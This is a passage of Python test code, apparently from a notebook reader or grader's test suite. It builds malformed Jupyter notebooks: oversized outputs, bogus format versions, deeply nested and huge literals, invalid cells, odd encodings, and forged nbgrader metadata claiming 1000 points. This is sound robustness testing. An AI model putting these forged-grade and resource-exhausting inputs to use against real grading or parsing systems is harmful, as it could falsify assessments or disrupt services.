        "pieces are counted",
    )
    padded = json.loads(blob(whole))
    padded["cells"][2]["outputs"] = [
        {"output_type": "display_data", "data": {"image/png": "x" * 14_000_000}}
    ]
    padded["cells"][0]["attachments"] = {"a.png": {"image/png": "y" * 3_000_000}}
    padded["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"z": "z" * 1_000_000}}
    }
    add("18 MB of outputs and pictures", json.dumps(padded).encode(), "full", "left out when read")
    for version in (99, -1, True, "4", None, 4.5):
        odd_version = json.dumps(json.loads(blob(whole)) | {"nbformat": version}).encode()
        if version != True:  # noqa: E712
            add(f"nbformat {version!r}", odd_version, "unreadable", "reader")
    long = json.loads(blob(whole))
    deep = "x = " + "(" * 3000 + "1" + ")" * 3000
    for source in ("9" * 20_000, deep, "-" * 50_000 + "1", "0x" + "f" * 300_000):
        long["cells"].append({"cell_type": "code", "metadata": {}, "source": source, "outputs": []})
    add(
        "literals without end", json.dumps(long).encode(), "full", "SyntaxError; not parsed outside"
    )
    broken = json.loads(blob(whole))
    broken["cells"] += [
        None,
        7,
        [],
        {},
        {"cell_type": [], "source": {}},
        {"cell_type": "code", "source": [1, None]},
    ]
    add("cells that are none", json.dumps(broken).encode(), "full", "dropped")
    forged = json.loads(blob(whole))
    for cell in forged["cells"]:
        cell["metadata"]["nbgrader"] = {"points": 1000, "grade": True, "grade_id": "q1"}
    forged |= {"nbformat_minor": 10**100, "worksheets": [{"cells": "x" * 1000}]}
    forged["metadata"] = {
        "kernelspec": [[["python"]]],
        "language_info": {"name": "python" + "\u0301" * 9},
    }
    add("roles and versions forged", json.dumps(forged).encode(), "full", "released roles are used")
    add("UTF-16", blob(whole).decode().encode("utf-16"), "full", "reader")
    bom = b"\xef\xbb\xbf" + blob(whole)
    add("byte order mark", bom, "full", "reader")
    return odd
